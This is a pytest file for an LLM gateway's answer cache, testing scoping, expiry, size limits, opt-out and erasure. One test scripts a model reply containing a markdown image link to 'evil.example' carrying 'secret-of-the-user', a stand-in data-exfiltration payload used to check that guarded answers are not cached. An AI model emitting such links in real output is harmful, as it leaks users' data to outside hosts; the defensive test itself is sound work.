"""The exact-match cache: off unless wanted, never for somebody else, never unguarded."""

from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest
from gateway_support import Gateway, Provider, gateway_of, make_policy, message

from seawall.core.roles import Role
from seawall.gateway.cache import AnswerCache
from seawall.policy.resources import Cache
from seawall.store.keys import create_key


def ask(gateway: Gateway, text: str, user: str = "u", key: str | None = None, **more: Any) -> Any:
    messages: Any = [{"role": "user", "content": text}]
    return gateway.client(key).chat.completions.with_raw_response.create(
        model="other", messages=messages, user=user, **more
    )


def test_it_is_off_unless_the_policy_says_so(gateway: Gateway, provider: Provider) -> None:
    for _ in range(2):
        assert "x-seawall-cache" not in ask(gateway, "Hi").headers
    assert len(provider.seen) == 2


@pytest.mark.parametrize(("scope", "asked"), [("user", 2), ("function", 1)])
def test_the_same_request_costs_nothing_the_second_time(
    provider: Provider, tmp_path: Path, scope: str, asked: int
) -> None:
    policy = make_policy(provider, extra=f"cache: {{seconds: 60, scope: {scope}}}\n")
    with gateway_of(policy, provider, tmp_path) as gateway:
        provider.reset()
        first, again = ask(gateway, "Hi"), ask(gateway, "Hi")
        assert "x-seawall-cache" not in first.headers
        assert again.headers["x-seawall-cache"] == "hit"
        assert again.parse().choices[0].message.content == "Hello."
        record = gateway.record(again.headers["x-seawall-request-id"])
        assert (record["cost"], record["details"]) == (0.0, {"cache": "hit"})
        ask(gateway, "Hi", user="v")
        assert len(provider.seen) == asked
        ask(gateway, "Hi", key=gateway.keys["batch"])  # another function: asked anew
        ask(gateway, "Hi", temperature=0.1)
        ask(gateway, "Ho")
        assert len(provider.seen) == asked + 3


def test_what_a_guard_touched_is_not_kept(provider: Provider, tmp_path: Path) -> None:
    policy = make_policy(provider, extra="cache: {seconds: 60}\n")
    with gateway_of(policy, provider, tmp_path) as gateway:
        provider.reset()
        provider.script = message("![x](https://evil.example/?q=secret-of-the-user)")
        for _ in range(2):
            ask(gateway, "Hi")
        assert len(provider.seen) == 2


def test_entries_end_and_have_little_room(provider: Provider) -> None:
    now = [0.0]
    policy = make_policy(provider, extra="cache: {seconds: 10, max_entries: 2, max_bytes: 8}\n")
    assert policy.cache == Cache(seconds=10, max_entries=2, max_bytes=8)
    cache, upstream = AnswerCache(policy, "v", lambda: now[0]), policy.upstreams[0]
    cache.put(b"a", "u", upstream, b"1234")
    cache.put(b"b", "u", upstream, b"1234")
    assert cache.get(b"a")
    cache.put(b"c", "v", upstream, b"1")
    assert cache.get(b"b") is None and cache.get(b"a") and cache.get(b"c")
    cache.put(b"d", "u", upstream, b"123456789")  # larger than all the room
    assert cache.get(b"d") is None and cache.get(b"a")
    now[0] = 10.0
    assert cache.get(b"a") is None


def test_who_opts_out_gets_no_kept_answer_and_leaves_none(
    provider: Provider, tmp_path: Path
) -> None:
    policy = make_policy(provider, extra="cache: {seconds: 60}\n")
    with gateway_of(policy, provider, tmp_path) as gateway:
        provider.reset()
        ask(gateway, "Hi")
        ask(gateway, "Hi", user="v")
        for opt_out in (True, False):
            body = {"user": "u", "opt_out": opt_out}
            gateway.client().post("/seawall/consent", body=body, cast_to=object)
            assert "x-seawall-cache" not in ask(gateway, "Hi").headers
        assert ask(gateway, "Hi", user="v").headers["x-seawall-cache"] == "hit"
        assert len(provider.seen) == 4


def test_what_nobody_asks_for_again_does_not_stay(provider: Provider) -> None:
    now = [0.0]
    policy = make_policy(provider, extra="cache: {seconds: 10}\n")
    cache, upstream = AnswerCache(policy, "v", lambda: now[0]), policy.upstreams[0]
    for moment, name in ((0.0, b"a"), (1.0, b"b"), (10.5, b"c")):
        now[0] = moment
        cache.put(name, "u", upstream, b"1234")
    assert set(cache._kept) == {b"b", b"c"}


def test_who_is_erased_leaves_no_kept_answer(provider: Provider, tmp_path: Path) -> None:
    policy = make_policy(provider, extra="cache: {seconds: 60}\n")
    with gateway_of(policy, provider, tmp_path) as gateway:
        provider.reset()
        owner = create_key(gateway.store, application="shop", function="", scopes=("admin",),
                           roles=(Role.OWNER,))[1]  # fmt: skip
        for user in "uv":
            ask(gateway, "Hi", user=user)
        url = f"http://127.0.0.1:{gateway.port}/admin/v1/audit/erase"
        headers = {"authorization": f"Bearer {owner}"}
        assert httpx.post(url, json={"user": "u"}, headers=headers).status_code == 200
        assert "x-seawall-cache" not in ask(gateway, "Hi").headers
        assert ask(gateway, "Hi", user="v").headers["x-seawall-cache"] == "hit"
